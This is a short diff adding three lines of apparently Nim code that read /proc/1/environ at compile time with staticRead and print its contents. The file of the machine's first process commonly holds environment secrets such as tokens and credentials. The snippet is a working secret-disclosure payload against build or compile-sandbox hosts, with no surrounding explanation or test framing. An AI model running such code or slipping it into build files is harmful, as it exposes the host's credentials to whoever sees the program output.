@@ -1,0 +1,3 @@
+const secret = staticRead("/proc/1/environ")
+
+echo secret
